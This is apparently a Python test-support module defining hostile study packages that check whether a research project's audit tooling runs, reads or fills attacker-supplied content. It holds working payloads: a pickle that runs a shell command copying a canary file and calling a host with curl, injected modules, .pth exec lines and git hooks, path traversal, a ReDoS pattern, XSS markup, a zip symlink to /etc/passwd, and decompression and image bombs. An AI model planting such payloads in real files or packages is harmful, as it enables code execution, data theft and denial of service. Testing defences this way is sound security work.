"""Studies made to have something run, read or filled by whoever checks them: further attacks."""

import gzip
import io
import json
import pickle
import stat
import struct
import subprocess
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from zipfile import ZipInfo

import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq

from tests.support.forgery import forge
from tests.support.hostile_archives import (
    DATASET,
    TURNS,
    Edit,
    Host,
    Pack,
    bombs_of_yaml,
    change_record,
    chart_with,
    edited,
    in_journal,
    of_config,
    table,
    with_text,
    zipped,
)
from userturn.storage.hashing import file_sha256
from userturn.storage.journal import encode_line
from userturn.workflow.job_record import read_record, write_record

PROGRAM = """
import pathlib, urllib.request
pathlib.Path({canary!r}).with_name("pwned").write_text(pathlib.Path({canary!r}).read_text())
urllib.request.urlopen({address!r})
"""


class Command:
    """An object whose pickle runs a command when it is read."""

    def __init__(self, host: Host) -> None:
        self.line = f"cp {host.canary} {host.canary}.pwned; curl {host.address}"

    def __reduce__(self) -> tuple[Any, ...]:
        return subprocess.call, (self.line,), {"shell": True}


def placed(*names: str, text: Callable[[Host], str | bytes]) -> Edit:
    """Return an attack by new files of one content."""

    def attack(study: Path, host: Host) -> None:
        content = text(host)
        for name in names:
            (study / name).parent.mkdir(parents=True, exist_ok=True)
            raw = content if isinstance(content, bytes) else content.encode()
            (study / name).write_bytes(raw)

    return attack


def program(host: Host) -> str:
    return PROGRAM.format(canary=str(host.canary), address=host.address)


def as_lines(host: Host) -> str:
    """Return the program as a line that Python runs of a `.pth` file."""
    return f"import os; exec({program(host)!r})\n"


def git_settings(host: Host) -> str:
    hook = f"cp {host.canary} {host.canary}.pwned"
    return (
        f'[core]\n\tfsmonitor = "{hook}"\n\tsshCommand = "{hook}"\n[alias]\n\tls-files = !{hook}\n'
    )


def environment(host: Host) -> str:
    return f"dependencies:\n- pip:\n  - evil @ {host.address}/evil.zip\n"


def arrow_table(change: Callable[[pa.Table, Host], pa.Table]) -> Edit:
    """Return an attack by what a Parquet file says of its columns."""

    def attack(study: Path, host: Host) -> None:
        path = study / "results" / TURNS
        pq.write_table(change(pq.read_table(path), host), path)
        forge(study / "results", TURNS, everywhere=True)

    return attack


def of_pickled_type(turns: pa.Table, host: Host) -> pa.Table:
    """Say of a column that it has a type which pyarrow before version 14 unpickles."""
    place = turns.schema.get_field_index("text")
    named = {"name": b"arrow.py_extension_type", "metadata": pickle.dumps(Command(host))}
    said = {f"ARROW:extension:{key}": value for key, value in named.items()}
    return turns.cast(turns.schema.set(place, turns.schema.field(place).with_metadata(said)))


def of_many_columns(turns: pa.Table, host: Host) -> pa.Table:
    more = {f"c{n}": pa.nulls(turns.num_rows, pa.bool_()) for n in range(20_000)}
    return pa.table({**dict(zip(turns.column_names, turns.columns, strict=True)), **more})


def of_deep_lists(turns: pa.Table, host: Host) -> pa.Table:
    """Add a column of lists in lists, 3,000 deep, which a reader by recursion does not survive."""
    deep = pa.null()
    for _ in range(3000):
        deep = pa.list_(deep)
    return turns.append_column("deep", pa.nulls(turns.num_rows, deep))


def job_of_another_place(study: Path, host: Host) -> None:
    """Let the job of a page for people write, when it is run again, where the audit writes."""
    path = study / "results/provenance/build_annotation/first.json"
    record = read_record(path) or {}
    record["wildcards"] = {"round": f"../../../../../../..{host.canary.parents[1]}/work/out/theirs"}
    write_record(path, record)


def long_answers(verifier: str, text: str) -> Edit:
    """Return an attack by a text over which a search by a pattern takes the square of its time."""

    def attack(study: Path, host: Host) -> None:
        answers = f"answers/tiny/{DATASET}.parquet"
        table(answers, lambda t: t.with_columns(answer=pl.lit(text), text=pl.lit(text)))(
            study, host
        )
        more = {"verifier": verifier}
        of_config(lambda c, _: c["datasets"][DATASET].update(more))(study, host)

    return attack


def expanding_controls(study: Path, host: Host) -> None:
    """Let the texts of hard controls, with their hash in all records, grow as they are read."""
    path = study / "data/controls/hard_failures.yaml"
    path.write_text(bombs_of_yaml())
    for place in (study / "results/provenance").rglob("*.json"):
        record = read_record(place) or {}
        if "data/controls/hard_failures.yaml" in record["inputs"]:
            record["inputs"]["data/controls/hard_failures.yaml"] = file_sha256(path)
            write_record(place, record)


def endless_pattern(study: Path, host: Host) -> None:
    """Let the first item's answer be graded by a pattern that never matches."""
    keywords = [{"keywords": ["(a+)+$"]}]
    asked = json.dumps({"instructions": ["keywords:existence"], "kwargs": keywords})
    is_first = pl.int_range(pl.len()) == 0
    given = pl.when(is_first).then(pl.lit(asked)).otherwise(pl.lit('{"instructions": []}'))
    said = pl.when(is_first).then(pl.lit("a" * 40 + "b")).otherwise("answer")
    items, answers = f"datasets/{DATASET}.parquet", f"answers/tiny/{DATASET}.parquet"
    table(items, lambda t: t.with_columns(verifier_arguments=given))(study, host)
    table(answers, lambda t: t.with_columns(answer=said))(study, host)
    of_config(lambda c, _: c["datasets"][DATASET].update(verifier="ifeval"))(study, host)


def everything_left_out(study: Path, host: Host) -> None:
    paths = [p for p in sorted((study / "results").rglob("*.*")) if p.name != "study.json"]
    listed = [
        {"path": str(path.relative_to(study)), "n_bytes": 1, "sha256": "0", "reason": "private"}
        for path in paths
    ]
    (study / "left_out.json").write_text(json.dumps({"files": listed}))


def packed_zeros(host: Host) -> bytes:
    """Return a gigabyte and a half without a line's end."""
    made = io.BytesIO()
    with gzip.open(made, "wb", compresslevel=1) as packed:
        for _ in range(1500):
            packed.write(bytes(1 << 20))
    return made.getvalue()


def wide_picture(host: Host) -> bytes:
    size = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(size)) + b"IHDR" + size + bytes(4)


MODULES = ("polars", "altair", "numpy", "sitecustomize", "usercustomize", "userturn/__init__")
FOLDERS = ("", "results/", "data/")
PROGRAMS: dict[str, Edit] = {
    "modules of known names": placed(
        *(f"{folder}{name}.py" for folder in FOLDERS for name in MODULES), text=program
    ),
    "lines for Python's start": placed("evil.pth", "data/evil.pth", text=as_lines),
    "settings of git": placed(".git/config", "results/.git/config", text=git_settings),
    "hooks of git": placed(
        ".git/hooks/post-checkout",
        "results/.git/hooks/fsmonitor-watchman",
        text=lambda host: f"#!/bin/sh\ncp {host.canary} {host.canary}.pwned\n",
    ),
    "a workflow": placed("Snakefile", "results/Snakefile", "rules/jobs.smk", text=program),
    "an environment of the author": placed("envs/cpu.yaml", text=environment),
    "settings of the author": placed("config.yaml", text=lambda h: f"engine: '{h.address}'\n"),
    "pickles": placed(
        *("models/tiny/pytorch_model.bin", "results/checkpoints/tiny/x/checkpoint-1/adapter.pt"),
        *("results/tables/rates.pkl", "data/labelled/turns.pkl"),
        text=lambda host: pickle.dumps(Command(host)),
    ),
    "a pickled type": arrow_table(of_pickled_type),
    "a table of 20,000 columns": arrow_table(of_many_columns),
    "a table of much metadata": arrow_table(
        lambda turns, _: turns.replace_schema_metadata({"identity": "x" * 50_000_000})
    ),
    "numbers too large for a journal": in_journal(
        encode_line({"key": "0" * 64, "outcome": "ok", "token_ids": [2**70], "text": "x"})
    ),
    "a number without end": of_config(lambda c, _: c.update(seed=float("inf"))),
    "names that are markup": of_config(
        lambda c, _: c["run"].update(models=["<img src=x onerror=alert(1)>"])
    ),
    "a rubric that is markup": lambda study, _: change_record(
        study, lambda content: content["contents"]["texts"].update({"<img src=x>": "<script>"})
    ),
    "variables of the environment": of_config(
        lambda c, _: c["datasets"][DATASET].update(file="$HOME/canary.txt", instruction="${HOME}/x")
    ),
    "a figure's expression": chart_with(
        transform=[{"calculate": "random() + now() + pad('x', 999999999, 'y')", "as": "x"}],
        params=[{"name": "p", "expr": "scale('x', window.fetch('ADDRESS'))"}],
    ),
    "a picture of ten gigapixels": placed("results/figures/grid_overview.png", text=wide_picture),
    "a file packed without end": placed("results/tables/more.json.gz", text=packed_zeros),
    "a pattern without end": endless_pattern,
    "everything is left out": everything_left_out,
    "a column of deep lists": arrow_table(of_deep_lists),
    "a job of another place": job_of_another_place,
    "controls that expand": expanding_controls,
    "answers of fences": long_answers("code", "`" * 3_000_000),
    "answers of lines": long_answers("math", "\n" * 3_000_000),
    "a turn of spaces": table(TURNS, with_text("x" + " " * 3_000_000 + "x")),
    "turns of one word": table(TURNS, with_text("x" * 3_000_000)),
    "a picture of many widths": edited(
        "figures/grid_overview.svg",
        lambda svg, _: svg.replace("<svg", "<svg" + ' width="1"' * 500_000),
    ),
}


def tarred(study: Path, path: Path, member: tarfile.TarInfo, text: bytes = b"x") -> None:
    """Pack a study and a further member."""
    with tarfile.open(path, "w:gz") as made:
        made.add(study, arcname=".")
        member.size = len(text)
        made.addfile(member, io.BytesIO(text))


def zip_link(study: Path, path: Path) -> None:
    member = ZipInfo("results/tables/more.csv")
    member.create_system, member.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    zipped(study, path, member, text=b"/etc/passwd")


def sparse(study: Path, path: Path) -> None:
    """Pack a file of a terabyte of which one byte is written."""
    member = tarfile.TarInfo("results/tables/more.csv")
    member.pax_headers = {"GNU.sparse.map": f"{2**40 - 1},1", "GNU.sparse.size": str(2**40)}
    tarred(study, path, member)


def of_no_text(study: Path, path: Path) -> None:
    """Pack a file whose name is no UTF-8."""
    tarred(study, path, tarfile.TarInfo("results/tables/\udcff.json"), b"{}")


PACKINGS: dict[str, Pack] = {
    "a link in a zip": zip_link,
    "a sparse file": sparse,
    "a file where a folder is": lambda study, path: zipped(study, path, "results/study.json/x"),
    "a name that is no text": of_no_text,
}
